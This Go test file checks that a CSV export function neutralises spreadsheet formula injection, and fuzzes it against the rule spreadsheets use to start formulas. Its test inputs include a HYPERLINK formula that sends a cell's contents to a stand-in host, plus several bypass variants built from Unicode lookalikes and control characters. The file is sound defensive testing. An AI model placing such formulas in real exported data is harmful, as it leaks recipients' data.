package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCellNeutralisesWhatASpreadsheetWouldRun(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&E2,"click")`, `'=HYPERLINK("http://x/?"&E2,"click")`},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"-5", "'-5"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\tplain", "'\tplain"},
		{"  =1+1", "'  =1+1"},
		{"\u00a0=1", "'\u00a0=1"},
		{"\n@x", "'\n@x"},
		{"\uff1d1+1", "'\uff1d1+1"},
		{"\ufe661+1", "'\ufe661+1"},
		{"\ufe6bSUM(A1)", "'\ufe6bSUM(A1)"},
		{"\u200b=1+1", "'\u200b=1+1"},
		{"\ufeff=1+1", "'\ufeff=1+1"},
		{"\x1c=1+1", "'\x1c=1+1"},
		{"", ""},
		{"   ", "   "},
		{"Ivanov", "Ivanov"},
		{"RU-0001", "RU-0001"},
		{"O'Brien", "O'Brien"},
		{"a=b", "a=b"},
		{"2021-02-25", "2021-02-25"},
		{"3", "3"},
		{"https://post.example/c/1/RU-1.abc", "https://post.example/c/1/RU-1.abc"},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
}

// startsFormula is the rule a spreadsheet applies when it opens a CSV.
func startsFormula(v string) bool {
	if v == "" {
		return false
	}
	if v[0] == '\t' || v[0] == '\r' {
		return true
	}
	t := strings.TrimLeft(v, " \t\r\n\u00a0\v\f")
	return t != "" && strings.ContainsAny(t[:1], "=+-@")
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{`=HYPERLINK("http://x/?"&E2,"click")`, "+1", "-1", "@x", "\t=1", "\r", " =1", "Ivanov", "", "\u00a0=", "\uff1d"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		got := Cell(v)
		if got != v && got != "'"+v {
			t.Fatalf("Cell(%q) = %q: want the value or the value after a quote", v, got)
		}
		if startsFormula(got) {
			t.Fatalf("Cell(%q) = %q still starts a formula", v, got)
		}
		var b bytes.Buffer
		w := NewCSV(&b)
		if err := w.Write([]string{v, "x"}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&b).Read()
		if err != nil {
			t.Fatalf("reading back %q: %v", b.String(), err)
		}
		// encoding/csv turns \r\n inside a quoted field into \n.
		if want := strings.ReplaceAll(got, "\r\n", "\n"); rec[0] != want && !strings.Contains(v, "\r") {
			t.Fatalf("read back %q, wrote %q", rec[0], got)
		}
	})
}
